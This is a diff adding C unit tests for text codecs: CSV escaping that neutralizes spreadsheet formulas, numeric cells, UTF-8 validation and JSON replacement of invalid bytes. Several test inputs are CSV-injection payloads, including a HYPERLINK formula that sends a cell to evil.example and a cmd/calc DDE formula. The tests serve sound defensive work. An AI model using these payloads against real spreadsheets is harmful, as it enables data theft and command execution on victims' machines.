@@ -1,7 +1,8 @@
 /*
  * test_text.c: the shared text codecs (storage/text.c): the bounded builder and its cap,
- * JSON and CSV escaping, identifier rules, and UTC time in both directions, checked on
- * exact strings and exact millisecond values.
+ * JSON and CSV escaping (spreadsheet formulas neutralized in text cells, numbers kept as
+ * numbers; invalid UTF-8 replaced in JSON), strict UTF-8 and free-text rules, identifier rules, and
+ * UTC time in both directions, checked on exact strings and exact millisecond values.
  */
 #include <stdarg.h>
 #include <stddef.h>
@@ -223,6 +224,153 @@ static void test_csv_field(void **state)
     csv_is("a\r\nb", "\"a\r\nb\"");
     csv_is("caf\xc3\xa9", "caf\xc3\xa9");
     csv_is("x,\"y\"\n", "\"x,\"\"y\"\"\n\"");
+    /* A ';' is quoted too: a spreadsheet in a decimal-comma locale splits cells there. */
+    csv_is("a;=1+1", "\"a;=1+1\"");
+}
+
+/* A text cell a spreadsheet would run as a formula gets a leading quote (OWASP), whatever
+ * it holds: an order id, a referrer, a UTM value. */
+static void test_csv_formula_neutralized(void **state)
+{
+    (void)state;
+    csv_is("=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")",
+           "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"Click\"\")\"");
+    csv_is("=1+1", "'=1+1");
+    csv_is("=", "'=");
+    csv_is("+62812345", "'+62812345");
+    csv_is("-1500", "'-1500"); /* in a text column, even a number-looking value */
+    csv_is("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0");
+    csv_is("@SUM(A1:A9)", "'@SUM(A1:A9)");
+    csv_is("\t=1+1", "'\t=1+1");
+    csv_is("\r=1+1", "\"'\r=1+1\"");
+    /* Not at the start, or already quoted: left alone. */
+    csv_is("a=1+1", "a=1+1");
+    csv_is(" =1", " =1");
+    csv_is("'=1", "'=1");
+    csv_is("INV-1001", "INV-1001");
+}
+
+static void csv_number_is(const char *in, const char *want)
+{
+    text_buf b;
+    text_buf_init(&b, 4096);
+    assert_true(text_csv_number(&b, in));
+    assert_string_equal(b.ptr ? b.ptr : "", want);
+    text_buf_free(&b);
+}
+
+/* A number column jejak computed stays a number, a negative one too; anything in it that
+ * is not a plain number is written as text, neutralized. */
+static void test_csv_number(void **state)
+{
+    (void)state;
+    csv_number_is("-1500", "-1500");
+    csv_number_is("-1500.00", "-1500.00");
+    csv_number_is("0", "0");
+    csv_number_is("199000.00", "199000.00");
+    csv_number_is("-64.0741448499904", "-64.0741448499904");
+    csv_number_is("1e-05", "1e-05");
+    csv_number_is("-1.5E+20", "-1.5E+20");
+    csv_number_is("n/a", "n/a");
+    csv_number_is("", "");
+    csv_number_is("-", "'-");
+    csv_number_is("-1+2", "'-1+2");
+    csv_number_is("=1", "'=1");
+    csv_number_is("+1", "'+1");
+    csv_number_is("1,5", "\"1,5\"");
+    csv_number_is("-1.", "'-1.");
+    csv_number_is("-1e", "'-1e");
+}
+
+/* text_row decides per column: text cells are neutralized, number cells are not. */
+static void test_row_kinds(void **state)
+{
+    (void)state;
+    const char *const names[] = {"order_id", "ts", "amount", "coupon", "bot"};
+    const char *const vals[] = {"=HYPERLINK(1)", "-5", "-1500.00", "@x", "true"};
+    const text_kind kinds[] = {TEXT_STR, TEXT_RAW, TEXT_NUM_STR, TEXT_STR_OR_NULL, TEXT_RAW};
+    text_buf b;
+    text_buf_init(&b, 4096);
+    assert_true(text_row(&b, true, names, vals, kinds, 5));
+    assert_string_equal(b.ptr, "'=HYPERLINK(1),-5,-1500.00,'@x,true");
+    text_buf_reset(&b);
+    assert_true(text_row(&b, false, names, vals, kinds, 5));
+    assert_string_equal(b.ptr, "\"order_id\":\"=HYPERLINK(1)\",\"ts\":-5,\"amount\":\"-1500.00\","
+                               "\"coupon\":\"@x\",\"bot\":true");
+    /* Without kinds every cell is text. */
+    text_buf_reset(&b);
+    assert_true(text_row(&b, true, names, vals, NULL, 3));
+    assert_string_equal(b.ptr, "'=HYPERLINK(1),'-5,'-1500.00");
+    text_buf_free(&b);
+}
+
+/* ---- UTF-8 and free text ---------------------------------------------------------------- */
+
+static void test_valid_utf8(void **state)
+{
+    (void)state;
+    assert_true(text_valid_utf8(""));
+    assert_true(text_valid_utf8("plain ASCII ~"));
+    assert_true(text_valid_utf8("caf\xc3\xa9 \xe6\x97\xa5\xe6\x9c\xac \xf0\x9f\x98\x80"));
+    assert_true(text_valid_utf8("\xc2\x80\xdf\xbf"));                 /* U+0080, U+07FF */
+    assert_true(text_valid_utf8("\xe0\xa0\x80\xef\xbf\xbf"));         /* U+0800, U+FFFF */
+    assert_true(text_valid_utf8("\xed\x9f\xbf\xee\x80\x80"));         /* around the surrogates */
+    assert_true(text_valid_utf8("\xf0\x90\x80\x80\xf4\x8f\xbf\xbf")); /* U+10000, U+10FFFF */
+    assert_false(text_valid_utf8("\xff"));
+    assert_false(text_valid_utf8("\xfe"));
+    assert_false(text_valid_utf8("\x80")); /* lone continuation */
+    assert_false(text_valid_utf8("a\xbf" "b"));
+    assert_false(text_valid_utf8("\xc3"));             /* truncated at the end */
+    assert_false(text_valid_utf8("\xc3("));            /* not a continuation */
+    assert_false(text_valid_utf8("\xe2\x82"));         /* truncated 3-byte */
+    assert_false(text_valid_utf8("\xf0\x9f\x98"));     /* truncated 4-byte */
+    assert_false(text_valid_utf8("\xc0\x80"));         /* overlong NUL */
+    assert_false(text_valid_utf8("\xc1\xbf"));         /* overlong 0x7f */
+    assert_false(text_valid_utf8("\xe0\x80\x80"));     /* overlong 3-byte */
+    assert_false(text_valid_utf8("\xe0\x9f\xbf"));     /* overlong U+07FF */
+    assert_false(text_valid_utf8("\xf0\x80\x80\x80")); /* overlong 4-byte */
+    assert_false(text_valid_utf8("\xf0\x8f\xbf\xbf")); /* overlong U+FFFF */
+    assert_false(text_valid_utf8("\xed\xa0\x80"));     /* U+D800 */
+    assert_false(text_valid_utf8("\xed\xbf\xbf"));     /* U+DFFF */
+    assert_false(text_valid_utf8("\xf4\x90\x80\x80")); /* past U+10FFFF */
+    assert_false(text_valid_utf8("\xf5\x80\x80\x80"));
+    assert_false(text_valid_utf8("\xf8\x88\x80\x80\x80")); /* 5-byte form */
+    assert_false(text_valid_utf8("Budi \xe9"));            /* Latin-1, the usual mistake */
+}
+
+/* What a person types for a name, a handle, a UTM value: 1 to max bytes of UTF-8, no
+ * control characters. */
+static void test_valid_text(void **state)
+{
+    (void)state;
+    assert_true(text_valid_text("Budi Santoso", 128));
+    assert_true(text_valid_text("Ayu \xf0\x9f\x8c\xb8 caf\xc3\xa9", 128));
+    assert_true(text_valid_text("=HYPERLINK(1)", 128)); /* CSV writers neutralize it */
+    assert_true(text_valid_text("abc", 3));
+    assert_false(text_valid_text("abcd", 3));
+    assert_false(text_valid_text("", 128));
+    assert_false(text_valid_text("\xff", 128));
+    assert_false(text_valid_text("Budi \xe9", 128));
+    assert_false(text_valid_text("\xed\xa0\x80", 128));
+    assert_false(text_valid_text("a\tb", 128));
+    assert_false(text_valid_text("a\nb", 128));
+    assert_false(text_valid_text("\x1b[31m", 128));
+    assert_false(text_valid_text("\x7f", 128));
+}
+
+/* JSON output is valid UTF-8 whatever a store holds: a byte that is not part of a valid
+ * sequence (written by an older jejak) becomes U+FFFD, and parsers keep the report. */
+static void test_json_invalid_utf8_replaced(void **state)
+{
+    (void)state;
+    json_is("\xff", "\"\\ufffd\"");
+    json_is("a\xff" "b", "\"a\\ufffdb\"");
+    json_is("Budi \xe9", "\"Budi \\ufffd\"");
+    json_is("\xc3", "\"\\ufffd\"");
+    json_is("\xc3(", "\"\\ufffd(\"");
+    json_is("\xed\xa0\x80", "\"\\ufffd\\ufffd\\ufffd\"");
+    json_is("\xc0\x80", "\"\\ufffd\\ufffd\"");
+    json_is("ok \xc3\xa9 \xf0\x9f\x98\x80 \xff", "\"ok \xc3\xa9 \xf0\x9f\x98\x80 \\ufffd\"");
 }
 
 /* ---- identifiers ----------------------------------------------------------------------- */
@@ -506,6 +654,12 @@ int main(void)
         cmocka_unit_test(test_json_escaping),
         cmocka_unit_test(test_json_appends),
         cmocka_unit_test(test_csv_field),
+        cmocka_unit_test(test_csv_formula_neutralized),
+        cmocka_unit_test(test_csv_number),
+        cmocka_unit_test(test_row_kinds),
+        cmocka_unit_test(test_valid_utf8),
+        cmocka_unit_test(test_valid_text),
+        cmocka_unit_test(test_json_invalid_utf8_replaced),
         cmocka_unit_test(test_valid_id),
         cmocka_unit_test(test_parse_time_forms),
         cmocka_unit_test(test_parse_time_refusals),
